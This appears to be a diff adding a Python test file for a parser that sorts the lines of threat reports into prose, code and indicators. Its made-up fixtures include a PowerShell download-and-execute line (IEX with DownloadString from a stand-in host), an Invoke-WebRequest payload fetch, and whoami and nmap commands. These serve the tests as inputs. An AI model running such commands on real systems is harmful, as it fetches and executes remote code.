@@ -1,0 +1,201 @@
+"""What a line reads as (unmask.model.code_lines) and how fenced blocks use it, on texts
+written for these tests."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from unmask.model.code_lines import LINE_SHAPES, block_is_code, line_shape
+from unmask.model.structure import Structure
+from unmask.model.text_structure import text_structure
+
+FENCE = "```"
+
+
+def _kind(structure: Structure, text: str, needle: str) -> str:
+    return structure.kind_at(text.index(needle))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "The loader copied itself to C:\\ProgramData\\Cache\\upd.exe before it called home.",
+        "Its SHA-256 was 9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d in every sample we saw.",
+        "Victims were sent to hxxps://login-portal[.]example/verify and asked for their passwords.",
+        "The operators registered quiet-heron[.]example in March and used it for a year.",
+        "See https://vendor.example/blog/2024/heron for the first write-up of the group.",
+    ],
+)
+def test_a_sentence_holding_an_indicator_is_prose(line: str) -> None:
+    assert line_shape(line) == "prose"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "$payload = [System.Convert]::FromBase64String($blob)",
+        "Invoke-WebRequest -Uri $url -OutFile $env:TEMP\\a.ps1",
+        "rule Quiet_Heron_Loader : loader {",
+        "    $s1 = \"heron-config\" ascii wide",
+        "    condition:",
+        "def decode(blob, key):",
+        "for (i = 0; i < len; i++) {",
+        "}",
+        "key = 0x5A",
+        "VirtualAlloc(0, size, 0x3000, 0x40);",
+        "mov eax, dword ptr [ebp+8]",
+        "00401000  55 8B EC 83 EC 10 53 56",
+        "$ python decode.py sample.bin",
+        "  -o OUT, --output OUT   where the decoded file is written",
+        "cmd.exe /c whoami /all",
+    ],
+)
+def test_statements_read_as_code(line: str) -> None:
+    assert line_shape(line) == "code"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "bad-host[.]example",
+        "* update-check.example (first stage)",
+        "203.0.113.77:8443",
+        "9f2b1c0d9f2b1c0d9f2b1c0d9f2b1c0d",
+        "C2 server: hxxp://203.0.113.77/gate.php",
+        "%APPDATA%\\Heron\\svc.dll",
+    ],
+)
+def test_a_line_that_is_one_indicator(line: str) -> None:
+    assert line_shape(line) == "indicator"
+
+
+def test_other_lines_and_the_shapes() -> None:
+    assert line_shape("") == "other"
+    assert line_shape("| a | b |") == "other"  # a table row
+    assert line_shape("# decode the second stage with the key below") == "other"  # a comment
+    assert line_shape("for the attackers") == "other"  # a keyword of code, but no statement
+    assert set(LINE_SHAPES) == {"code", "prose", "indicator", "other"}
+
+
+def test_block_judgement() -> None:
+    prose = [("prose", 90), ("prose", 120), ("other", 20)]
+    script = [("code", 30), ("code", 25), ("other", 10), ("prose", 50)]  # a comment in words
+    assert not block_is_code(prose, paired=True)
+    assert block_is_code(script, paired=True)
+    assert block_is_code([("other", 30), ("other", 40)], paired=True)  # a tool's output
+    assert not block_is_code([("other", 30), ("other", 40)], paired=False)
+    assert block_is_code([("code", 40), ("code", 30), ("other", 10)], paired=False)
+
+
+#: A report whose first block lost its closing fence: paired one after the other, the
+#: fences enclose the prose and leave the script outside.
+OUT_OF_STEP = f"""\
+# Quiet Heron's loader
+
+{FENCE}
+The first stage arrives as an attachment named invoice.js and runs under wscript.
+It fetches a second stage from hxxp://update-check[.]example/a.bin over plain HTTP.
+The actor reused this server for months, which let us find three more samples.
+{FENCE}
+key = 0x5A
+out = bytes(b ^ key for b in blob)
+open("stage2.bin", "wb").write(out)
+{FENCE}
+## Victims
+
+The group wrote to finance staff at two shipping firms in Norway in May 2024.
+Both firms found the implant on their payroll servers and reported it.
+{FENCE}
+"""
+
+
+def test_fences_out_of_step_leave_prose_prose_and_code_code() -> None:
+    s = text_structure(OUT_OF_STEP)
+    assert _kind(s, OUT_OF_STEP, "The first stage arrives") == "prose"
+    assert _kind(s, OUT_OF_STEP, "The actor reused this server") == "prose"
+    assert _kind(s, OUT_OF_STEP, "The group wrote to finance staff") == "prose"
+    assert _kind(s, OUT_OF_STEP, "key = 0x5A") == "code"
+    assert _kind(s, OUT_OF_STEP, "open(\"stage2.bin\"") == "code"
+    assert _kind(s, OUT_OF_STEP, "## Victims") == "heading"
+
+
+SCRIPT_AND_LIST = f"""\
+## Loader
+
+{FENCE}powershell
+# fetch the next stage and run it from memory
+$u = "hxxp://update-check[.]example/b.ps1"
+IEX (New-Object Net.WebClient).DownloadString($u)
+{FENCE}
+
+The script above ran on every host the actor reached.
+
+## Network indicators
+
+{FENCE}
+update-check[.]example
+quiet-heron.example
+203.0.113.77
+{FENCE}
+"""
+
+
+def test_a_fenced_script_is_code_and_a_fenced_indicator_list_is_a_list() -> None:
+    s = text_structure(SCRIPT_AND_LIST)
+    assert _kind(s, SCRIPT_AND_LIST, "# fetch the next stage") == "code"
+    assert _kind(s, SCRIPT_AND_LIST, "IEX (New-Object") == "code"
+    assert _kind(s, SCRIPT_AND_LIST, "The script above ran") == "prose"
+    for host in ("update-check[.]example\n", "quiet-heron.example", "203.0.113.77\n"):
+        passage = s.block_at(SCRIPT_AND_LIST.index(host))
+        assert passage is not None and passage.kind == "ioc-list" and "code" not in passage.kinds
+        # a short line of a block is no heading: the section stays the one above
+        assert passage.layout == "prose" and passage.section == "Network indicators"
+
+
+def test_a_short_code_line_opens_no_section() -> None:
+    text = f"## Setup\n\n{FENCE}\nimport os\nmain()\n{FENCE}\n\nThe tool then wrote its log to the disk of the host.\n"
+    s = text_structure(text)
+    after = s.block_at(text.index("The tool then wrote"))
+    assert after is not None and after.section == "Setup"
+    assert all("heading" not in p.kinds for p in s if p.kind == "code")
+
+
+def test_a_command_at_a_prompt_stays_code_in_a_block_of_prose() -> None:
+    text = (f"{FENCE}\nThe operators typed the command below on the server of the victim.\n"
+            f"They then waited for the scan to finish before they moved on.\n$ nmap -sS 10.0.0.0/24\n{FENCE}\n")
+    s = text_structure(text)
+    assert _kind(s, text, "The operators typed") == "prose"
+    assert _kind(s, text, "$ nmap") == "code"
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [f"{FENCE}\nfor (i = 0; i < n; i++) {{\n{FENCE}\nThe group sent a lure to staff in May.\n",
+     f"{FENCE}\n", "x(\n", f"{FENCE}\n" + "{" * 300 + "\n"],
+)
+def test_blocks_are_read_in_linear_time(unit: str) -> None:
+    def best(text: str) -> float:
+        times = []
+        for _ in range(3):
+            text_structure.cache_clear()
+            t0 = time.process_time()
+            text_structure(text)
+            times.append(time.process_time() - t0)
+        return min(times)
+
+    assert best(unit * 8_000) < 8 * max(best(unit * 2_000), 0.005)
+
+
+def test_a_line_is_read_in_bounded_time_whatever_its_length() -> None:
+    one_line = f"{FENCE}\n" + "x(" * 500_000 + f"\n{FENCE}\n"  # 1 MB on one line, inside a block
+    t0 = time.process_time()
+    assert line_shape(one_line.split("\n")[1]) in LINE_SHAPES
+    structure = text_structure(one_line)
+    assert time.process_time() - t0 < 5
+    assert structure.length == len(one_line)
+    per_char = f"{FENCE}\n" + "x\n" * 200_000 + f"{FENCE}\n"  # a line per character, inside a block
+    t0 = time.process_time()
+    text_structure(per_char)
+    assert time.process_time() - t0 < 20
